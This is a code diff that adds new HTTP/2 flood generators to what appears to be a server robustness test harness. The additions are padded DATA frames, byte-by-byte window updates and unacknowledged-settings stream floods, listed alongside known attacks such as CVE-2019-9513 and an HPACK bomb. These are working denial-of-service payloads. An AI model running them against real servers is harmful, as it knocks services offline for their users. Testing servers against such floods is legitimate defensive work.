@@ -14,7 +14,7 @@ import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
-END_STREAM, ACK, END_HEADERS = 1, 1, 4
+END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
 CANCEL = struct.pack(">I", 8)
 ENHANCE_YOUR_CALM = 11
 LARGEST_WINDOW = (1 << 31) - 1
@@ -116,6 +116,13 @@ def empty_data(target):
         yield frame(DATA, 0, 1)
 
 
+def padding(target):
+    """The same, dressed up as payload."""
+    yield target.opened(1)
+    while True:
+        yield frame(DATA, PADDED, 1, b"\2\0\0")
+
+
 def priority(_):
     """CVE-2019-9513."""
     for stream in _streams():
@@ -127,6 +134,20 @@ def window_updates(target):
     yield target.opened(1)
     while True:
         yield frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") + frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
+
+
+def small_windows(target):
+    """A large answer, a byte a frame."""
+    yield target.asked(1, target.large)
+    while True:
+        yield frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
+
+
+def refused_streams(target):
+    """More than the server allows, by a client that has acknowledged no settings; behind answers that fill the socket."""
+    yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST_WINDOW - 65535))
+    for stream in _streams():
+        yield target.asked(stream, target.large) if stream < 20 else target.opened(stream)
 
 
 def hpack_bomb(target):
@@ -182,8 +203,12 @@ FLOODS = [
     Flood(ping),
     Flood(ping, reads=False),
     Flood(empty_data),
+    Flood(padding),
     Flood(priority),
     Flood(window_updates),
+    Flood(small_windows, settings=_setting(4, 0)),
+    Flood(refused_streams, settings=_setting(4, LARGEST_WINDOW)),
+    Flood(refused_streams, settings=_setting(4, LARGEST_WINDOW), reads=False),
     Flood(hpack_bomb),
     Flood(cookie_crumbs),
     Flood(stalled_windows, settings=_setting(4, 0), ended=False),
